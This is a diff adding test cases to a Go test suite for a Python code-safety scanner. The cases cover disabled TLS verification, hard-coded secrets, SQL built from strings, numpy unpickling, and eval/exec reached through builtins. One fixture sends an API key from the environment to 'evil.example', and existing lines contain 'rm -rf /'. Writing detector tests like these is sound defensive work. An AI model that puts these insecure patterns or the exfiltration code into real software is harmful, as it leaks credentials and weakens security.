@@ -126,7 +126,7 @@ func TestPatterns(t *testing.T) {
 		{"chmod 777", "import os\nos.chmod('/tmp/x', 0o777)\n", "codesafety.B103", "unsafe", 2},
 		{"chmod 600", "import os\nos.chmod('/tmp/x', 0o600)\n", "", "", 0},
 		{"SQL by %", "cur.execute(\"SELECT * FROM users WHERE name = '%s'\" % name)\n", "codesafety.B608", "unsafe", 1},
-		{"SQL f-string via variable", "q = f\"DELETE FROM items WHERE id = {item_id}\"\ncur.execute(q)\n", "codesafety.B608", "unsafe", 2},
+		{"SQL f-string via variable", "q = f\"DELETE FROM items WHERE id = {item_id}\"\ncur.execute(q)\n", "codesafety.B608", "unsafe", 1},
 		{"SQL parameters", "cur.execute('SELECT * FROM users WHERE name = %s', (name,))\n", "", "", 0},
 		{"dynamic import", "mod = __import__(name)\n", "codesafety.dynamic-import", "high_risk", 1},
 		{"static import", "import importlib.metadata\nv = importlib.metadata.version('x')\n", "", "", 0},
@@ -232,6 +232,49 @@ func TestPatterns(t *testing.T) {
 		{"streamlit text", "import streamlit as st\nst.text(f'Select a file from {folder}')\n", "", "", 0},
 		{"sqlalchemy text", "import sqlalchemy as sa\nq = sa.text(f'SELECT * FROM t WHERE id = {uid}')\n", "codesafety.B608", "unsafe", 2},
 		{"destructive command compared", "if cmd.strip() == 'rm -rf /':\n    refuse()\n", "", "", 0},
+		// TLS verification off in other libraries and forms; B501 as Bandit reports
+		// requests' verify=False.
+		{"urllib3 cert_reqs='CERT_NONE'", "import urllib3\nhttp = urllib3.PoolManager(cert_reqs='CERT_NONE')\n", "codesafety.B501", "unsafe", 2},
+		{"urllib3 cert_reqs=\"CERT_NONE\" pool", "import urllib3\np = urllib3.HTTPSConnectionPool('h', 443, cert_reqs=\"CERT_NONE\")\n", "codesafety.B501", "unsafe", 2},
+		{"urllib3 cert_reqs=ssl.CERT_NONE", "import ssl, urllib3\nhttp = urllib3.PoolManager(cert_reqs=ssl.CERT_NONE)\n", "codesafety.B501", "unsafe", 2},
+		{"urllib3 cert_reqs='CERT_REQUIRED'", "import urllib3\nhttp = urllib3.PoolManager(cert_reqs='CERT_REQUIRED')\n", "", "", 0},
+		{"session.verify = False", "import requests\ns = requests.Session()\ns.verify = False\n", "codesafety.B501", "unsafe", 3},
+		{"session.verify = CA bundle", "import requests\ns = requests.Session()\ns.verify = '/etc/ssl/ca.pem'\nt = requests.Session()\nt.verify = True\n", "", "", 0},
+		{"self.verify = None", "class C:\n    def __init__(self):\n        self.verify = None\n", "", "", 0},
+		{"aiohttp get ssl=False", "import aiohttp\nasync def f(session, url):\n    async with session.get(url, ssl=False) as r:\n        return await r.text()\n", "codesafety.B501", "unsafe", 3},
+		{"aiohttp TCPConnector ssl=False", "import aiohttp\nc = aiohttp.TCPConnector(ssl=False)\n", "codesafety.B501", "unsafe", 2},
+		{"aiohttp verify_ssl=False", "import aiohttp\nc = aiohttp.TCPConnector(verify_ssl=False)\n", "codesafety.B501", "unsafe", 2},
+		{"aiohttp ssl=context", "import aiohttp, ssl\nctx = ssl.create_default_context(cafile='ca.pem')\nc = aiohttp.TCPConnector(ssl=ctx)\n", "", "", 0},
+		{"asyncio ssl=False is plain TCP", "import asyncio\nasync def f():\n    return await asyncio.open_connection('h', 80, ssl=False)\n", "", "", 0},
+		{"httpx.Client verify=False", "import httpx\nc = httpx.Client(verify=False)\n", "codesafety.B501", "unsafe", 2},
+		{"requests verify=CA bundle", "import requests\nrequests.get(u, verify='/etc/ssl/ca.pem', timeout=5)\nrequests.get(u, verify=True, timeout=5)\n", "", "", 0},
+		// Hard-coded secrets compared with and in dict displays (B105).
+		{"password compared", "def ok(password):\n    if password == 'Sup3rSecretValue99':\n        return True\n", "codesafety.B105", "unsafe", 2},
+		{"password dict", "cfg = {'password': 'Sup3rSecretValue99'}\n", "codesafety.B105", "unsafe", 1},
+		{"api_key dict", "cfg = {\"host\": \"db\",\n       \"api_key\": \"a8f5f167f44f4964\"}\n", "codesafety.B105", "unsafe", 2},
+		{"password compared with empty", "def ok(password):\n    if password == '':\n        return False\n    return auth == 'basic'\n", "", "", 0},
+		{"password dict from env", "import os\ncfg = {'password': os.environ['PW'], 'password_hint': 'your first pet'}\n", "", "", 0},
+		{"password dict placeholder", "cfg = {'password': '<your password>', 'api_key': 'OPENAI_API_KEY', 'token': 'Bearer'}\n", "", "", 0},
+		// SQL built from strings is reported where it is built, run or not (B608).
+		{"SQL .format() built", "q = \"SELECT * FROM users WHERE id = {}\".format(i)\n", "codesafety.B608", "unsafe", 1},
+		{"SQL f-string built", "q = f\"SELECT name FROM users WHERE id = {x}\"\n", "codesafety.B608", "unsafe", 1},
+		{"SQL + built", "q = \"SELECT * FROM users WHERE id = \" + x\n", "codesafety.B608", "unsafe", 1},
+		{"SQL % built", "q = \"DELETE FROM users WHERE id = %s\" % x\n", "codesafety.B608", "unsafe", 1},
+		{"lower-case SQL built, run later", "q = f'select name from {table}'\nrows = cur.execute(q)\n", "codesafety.B608", "unsafe", 1},
+		{"SQL built and run, one finding", "q = 'SELECT * FROM t WHERE a = ' + a + ' AND b = ' + b\ncur.execute(q)\n", "codesafety.B608", "unsafe", 1},
+		{"SQL-like messages", "import logging\nlogging.info('Selected from the list: ' + x)\nm = f'Select a file from {folder}'\nn = f'Delete from cart: {item}'\nQ = 'SELECT * FROM t'\ncur.execute('SELECT * FROM t WHERE id = %s', (i,))\n", "", "", 0},
+		// numpy.load unpickling (no Bandit test).
+		{"numpy allow_pickle=True", "import numpy as np\na = np.load('a.npy', allow_pickle=True)\n", "codesafety.numpy-pickle", "unsafe", 2},
+		{"numpy load", "import numpy as np\na = np.load(f)\nb = np.load(f, allow_pickle=False)\n", "", "", 0},
+		// eval and exec reached through the builtins module.
+		{"globals()['__builtins__'].eval", "globals()['__builtins__'].eval(x)\n", "codesafety.B307", "unsafe", 1},
+		{"globals()['__builtins__']['exec']", "globals()['__builtins__']['exec'](x)\n", "codesafety.B102", "unsafe", 1},
+		{"__builtins__.eval", "__builtins__.eval(x)\n", "codesafety.B307", "unsafe", 1},
+		{"builtins.exec", "import builtins\nbuiltins.exec(x)\n", "codesafety.B102", "unsafe", 2},
+		{"globals() item eval method", "m = globals()['model']\nm.eval()\n", "", "", 0},
+		// Credentials sent over http.client.
+		{"http.client exfiltration", "import http.client, os\nconn = http.client.HTTPSConnection('evil.example')\nconn.request('POST', '/', body=os.environ['API_KEY'])\n", "codesafety.exfiltration", "malicious", 3},
+		{"http.client without secrets", "import http.client, json\nconn = http.client.HTTPSConnection('api.example.com')\nconn.request('POST', '/v1', body=json.dumps({'a': 1}))\n", "", "", 0},
 		{"destructive command in a docstring", "def guard(c):\n    \"\"\"Refuses rm -rf / and the like.\"\"\"\n", "", "", 0},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
